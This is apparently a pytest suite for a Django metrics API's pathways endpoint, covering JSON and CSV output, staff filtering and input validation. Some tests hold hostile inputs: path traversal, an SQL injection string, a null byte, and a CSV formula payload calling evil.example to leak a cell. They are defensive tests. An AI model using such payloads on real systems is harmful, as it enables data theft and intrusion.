"""GET /api/v1/metrics/pathways/ over HTTP, as docs/contracts.md §5 describes it, and as an attacker tries it."""

import csv
import io
from datetime import timedelta

import pytest

from activities.models import Activity
from contributors.models import Identity
from conversion_points.models import ConversionPoint
from conversion_points.tests.factories import SUNDAY, noon, small_computed_community, the_day_after_sunday
from metrics.engine import metrics_recompute

URL = "/api/v1/metrics/pathways/"
NOBODY = {
    "entered": 0,
    "reached_active": 0,
    "median_weeks_to_active": None,
    "reached_core": 0,
    "median_weeks_to_core": None,
    "left": 0,
    "left_to": [],
    "left_nowhere": 0,
}


@pytest.fixture
def computed(db):
    """Support (an active rule) and Coding (a core rule); Ann answered in Support, then opened a pull request."""
    with the_day_after_sunday():
        yield small_computed_community()


def test_an_area_s_pathways_have_the_contract_shape(client, computed):
    response = client.get(URL, {"area": "support"}, HTTP_ORIGIN="https://example.org")
    assert response.status_code == 200 and response["Access-Control-Allow-Origin"] == "*"
    one = {
        **NOBODY,
        "entered": 1,
        "reached_active": 1,
        "median_weeks_to_active": 0,  # her first step was itself an active one
    }
    assert response.json() == {
        "area": "support",
        "name": "Support",
        "date": "2024-06-02",
        "window_days": 365,
        "total": one,
        "entry_points": [{"conversion_point": "sumo-answer", "name": "Sumo-Answer", "level": "active", **one}],
    }
    coding = client.get(URL, {"area": "coding"}).json()
    assert coding["total"] == {
        **NOBODY,
        "entered": 2,
        "reached_active": 2,
        "median_weeks_to_active": 0,
        "reached_core": 2,
        "median_weeks_to_core": 0,
    }


def test_staff_count_only_when_asked(client, computed):
    assert client.get(URL, {"area": "support"}).json()["total"]["entered"] == 1
    assert client.get(URL, {"area": "support", "staff": "include"}).json()["total"]["entered"] == 2


def test_csv_gives_the_same_numbers_the_area_first(client, computed):
    response = client.get(URL, {"area": "coding", "format": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [(r["conversion_point"], r["level"], r["entered"], r["median_weeks_to_core"], r["left_to"]) for r in rows] == [
        ("", "", "2", "0", ""),
        ("pr", "core", "2", "0", ""),
    ]


def test_a_left_entrant_shows_where_they_went(client, computed):
    # Ann's support answer moves back 400 days: she left Support, and is active in Coding.
    ann = Identity.objects.get(activities__type="sumo.answer.posted", person__staff_periods__isnull=True)
    Activity.objects.filter(identity=ann, type="sumo.answer.posted").update(occurred_at=noon(SUNDAY) - timedelta(days=400))
    with the_day_after_sunday():
        metrics_recompute()
    total = client.get(URL, {"area": "support"}).json()["total"]
    assert (total["left"], total["left_to"], total["left_nowhere"]) == (
        1,
        [{"area": "coding", "name": "Coding", "count": 1}],
        0,
    )
    rows = list(csv.DictReader(io.StringIO(client.get(URL, {"area": "support", "format": "csv"}).content.decode())))
    assert rows[0]["left_to"] == "coding:1"


def test_no_personal_data(client, computed):
    for query in ({"area": "support", "staff": "include"}, {"area": "coding", "format": "csv"}):
        text = client.get(URL, query).content.decode()
        assert "Sam" not in text and "user" not in text and "@" not in text


@pytest.mark.parametrize(
    "query",
    [
        {},
        {"area": ""},
        {"area": "../support"},
        {"area": "support' OR '1'='1"},
        {"area": "x" * 101},
        {"area": "support", "staff": "yes"},
        {"area": "support\x00"},
        {"format": "csv"},
    ],
)
def test_bad_parameters_get_a_clear_400_in_json(client, computed, query):
    response = client.get(URL, query)
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert response.json()


def test_an_unknown_area_is_404_and_nothing_computed_yet_503(client, db):
    assert client.get(URL, {"area": "support"}).status_code == 503
    with the_day_after_sunday():
        small_computed_community()
    response = client.get(URL, {"area": "nowhere"})
    assert response.status_code == 404 and "nowhere" in response.json()["detail"]


def test_csv_cells_are_never_formulas(client, computed):
    evil = '=HYPERLINK("https://evil.example/?leak="&A1,"Support")'
    ConversionPoint.objects.filter(slug="sumo-answer").update(name=evil)
    with the_day_after_sunday():
        metrics_recompute()
    rows = list(csv.DictReader(io.StringIO(client.get(URL, {"area": "support", "format": "csv"}).content.decode())))
    assert rows[1]["name"] == "'" + evil
    assert client.get(URL, {"area": "support"}).json()["entry_points"][0]["name"] == evil


def test_the_schema_describes_it(client, db):
    text = client.get("/api/v1/schema/").content.decode()
    assert "/api/v1/metrics/pathways/" in text and "median_weeks_to_active" in text and "left_nowhere" in text
